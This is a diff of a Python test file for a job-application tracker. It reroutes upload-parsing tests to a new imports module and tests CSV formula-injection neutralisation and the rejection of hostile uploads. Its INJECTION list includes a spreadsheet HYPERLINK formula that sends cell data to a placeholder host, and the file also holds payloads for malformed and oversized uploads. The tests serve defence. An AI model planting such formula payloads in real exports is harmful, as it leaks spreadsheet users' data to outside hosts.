@@ -10,7 +10,8 @@ import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from followup import exports
+from followup import tracker
+from followup.log import exports, imports
 
 D = dt.date
 INJECTION = ['=HYPERLINK("http://x/?"&A1,"Click")', "+1 (555) 010-0000", "-2+3", "@SUM(1)", "\t=1",
@@ -39,7 +40,7 @@ def test_csv_neutralises_every_trigger_and_restores_it():
     for row in csv_cells(blob)[1:]:
         for cell in row:
             assert not cell.startswith(exports.TRIGGERS), repr(cell)
-    parsed = exports.parse_upload("x.csv", blob)
+    parsed = imports.parse_upload("x.csv", blob)
     assert parsed.errors == []
     assert parsed.log == log
 
@@ -59,11 +60,11 @@ def test_hand_written_quote_is_kept():
 text = st.text(alphabet=st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=40)
 company = text.filter(lambda s: s.strip() != "")
 event_st = st.fixed_dictionaries({
-    "kind": st.sampled_from(list(exports.KINDS)), "date": st.dates(D(1990, 1, 1), D(2100, 12, 31)),
+    "kind": st.sampled_from(list(tracker.KINDS)), "date": st.dates(D(1990, 1, 1), D(2100, 12, 31)),
     "done": st.booleans(), "note": text})
 app_st = st.fixed_dictionaries({
     "company": company, "role": text, "contact": text, "via_agency": st.booleans(),
-    "status": st.sampled_from(list(exports.STATUSES)), "said": text,
+    "status": st.sampled_from(list(tracker.STATUSES)), "said": text,
     "industry": st.sampled_from(["general", "tech"]), "country": st.sampled_from(["US", "GB", "DE"]),
     "subdivision": st.sampled_from(["", "CA", "ENG"]), "events": st.lists(event_st, max_size=4)})
 
@@ -81,7 +82,7 @@ def with_uids(apps):
 @given(apps=st.lists(app_st, min_size=1, max_size=4))
 def test_round_trip_is_lossless(name, export, apps):
     log = with_uids(apps)
-    parsed = exports.parse_upload(name, export(log))
+    parsed = imports.parse_upload(name, export(log))
     assert parsed.errors == []
     assert parsed.log == log
 
@@ -136,7 +137,7 @@ HOSTILE = {
     "header only": ((HEADER + "\n").encode(), "header but no rows"),
     "nul bytes": (good_csv().encode().replace(b"Acme", b"Ac\x00me"), "NUL"),
     "too many rows": ((HEADER + "\n" + "\n".join(row(note=str(i)) for i in range(10_001))).encode(), "10,000"),
-    "too big": (b"a" * (exports.MAX_BYTES + 1), "limit is 2 MB"),
+    "too big": (b"a" * (imports.MAX_BYTES + 1), "limit is 2 MB"),
     "deep json": (b"[" * 100_000 + b"]" * 100_000, "nested too deeply"),
     "json not a backup": (b'{"hello": 1}', "not a timeline backup"),
     "json wrong types": (json.dumps({"applications": [{"company": 5, "events": [
@@ -162,14 +163,14 @@ HOSTILE = {
 @pytest.mark.parametrize("name", list(HOSTILE))
 def test_hostile_upload_is_refused_with_a_message(name):
     data, message = HOSTILE[name]
-    result = exports.parse_upload("upload.json" if "json" in name else "upload.csv", data)
+    result = imports.parse_upload("upload.json" if "json" in name else "upload.csv", data)
     assert result.log == [] and not result.ok
     assert any(message.lower() in e.lower() for e in result.errors), result.errors
 
 
 def test_errors_are_listed_by_row():
     data = "\n".join([HEADER, row(), row(date="2025-02-30", note="b"), row(kind="x", note="c")]) + "\n"
-    result = exports.parse_upload("x.csv", data.encode())
+    result = imports.parse_upload("x.csv", data.encode())
     assert [e.split(":")[0] for e in result.errors] == ["Row 3", "Row 4"]
 
 
@@ -178,25 +179,25 @@ def test_errors_are_listed_by_row():
     lambda s: s.replace(",", ";").encode("utf-8"), lambda s: s.replace(",", "\t").encode("utf-8"),
     lambda s: s.replace("\n", "\r\n").encode("utf-8")])
 def test_accepted_encodings_and_separators(encode):
-    result = exports.parse_upload("x.csv", encode(good_csv(3).replace("Acme", "Zoë")))
+    result = imports.parse_upload("x.csv", encode(good_csv(3).replace("Acme", "Zoë")))
     assert result.errors == [] and result.ok
     assert result.log[0]["company"] == "Zoë" and len(result.log[0]["events"]) == 3
 
 
 def test_exactly_the_row_limit_is_accepted():
     data = (HEADER + "\n" + "\n".join(row(note=str(i)) for i in range(10_000))).encode()
-    result = exports.parse_upload("x.csv", data)
+    result = imports.parse_upload("x.csv", data)
     assert result.errors == [] and sum(len(a["events"]) for a in result.log) == 10_000
 
 
 def test_hand_written_csv_without_ids_gets_stable_ids():
     data = good_csv(2).encode()
-    a, b = exports.parse_upload("x.csv", data), exports.parse_upload("x.csv", data)
+    a, b = imports.parse_upload("x.csv", data), imports.parse_upload("x.csv", data)
     assert a.log == b.log and len(a.log) == 1
     assert a.log[0]["uid"] and all(e["uid"] for e in a.log[0]["events"])
 
 
 def test_application_without_events_round_trips():
     log = [app(events=[])]
-    assert exports.parse_upload("x.csv", exports.to_csv(log)).log == log
-    assert exports.parse_upload("x.json", exports.to_json(log)).log == log
+    assert imports.parse_upload("x.csv", exports.to_csv(log)).log == log
+    assert imports.parse_upload("x.json", exports.to_json(log)).log == log
